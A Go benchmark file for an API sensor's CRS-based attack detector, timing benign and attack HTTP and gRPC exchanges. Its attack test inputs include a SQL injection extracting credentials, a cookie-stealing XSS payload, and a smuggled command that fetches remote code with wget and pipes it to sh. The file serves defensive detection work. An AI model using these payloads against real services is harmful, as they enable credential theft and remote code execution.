package crs

import (
	"testing"

	"github.com/apisensor/sensor/decoders"
	"github.com/apisensor/sensor/pipeline/alert"
	"github.com/apisensor/sensor/pipeline/detect"
)

// BenchmarkCRS measures one exchange through the detector, per mode, on
// benign and attack exchanges. In suspicious mode a benign exchange costs
// the prefilter only; an attack costs a CRS run.
func BenchmarkCRS(b *testing.B) {
	exchanges := []struct {
		name string
		x    *decoders.Exchange
	}{
		{"benign-get", httpExchange("GET", "/api/users/42?fields=name,email&page=2", "", "")},
		{"benign-json", httpExchange("POST", "/api/orders", "application/json",
			`{"customer":{"name":"Alice Smith","email":"alice@example.com"},"items":[{"sku":"A-100","qty":2},{"sku":"B-7","qty":1}],"note":"Leave at the door, please."}`)},
		{"benign-grpc", grpcExchange("application/grpc", "1", "coffee mug", "2", "10", "3.1", "en-US")},
		{"attack-sqli-query", httpExchange("GET", "/api/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "")},
		{"attack-xss-json", httpExchange("POST", "/api/comments", "application/json",
			`{"post":12,"comment":{"text":"<script>alert(document.cookie)</script>"}}`)},
		{"attack-rce-grpc", grpcExchange("application/grpc", "1", "coffee", "2.1", "x; /bin/bash -c 'wget http://203.0.113.9/x -O- | sh'")},
	}
	for _, mode := range []string{detect.CRSSuspicious, detect.CRSAll} {
		d := detector(b, detect.CRS{Mode: mode})
		for _, e := range exchanges {
			b.Run(mode+"/"+e.name, func(b *testing.B) {
				var out []*alert.Alert
				b.ReportAllocs()
				cpu0 := cpuTime()
				for b.Loop() {
					out = d.Inspect(e.x, out[:0])
				}
				b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "exchanges/s")
				if cpu := cpuTime() - cpu0; cpu > 0 {
					b.ReportMetric(float64(cpu.Nanoseconds())/float64(b.N), "cpu-ns/op")
				}
			})
		}
	}
}
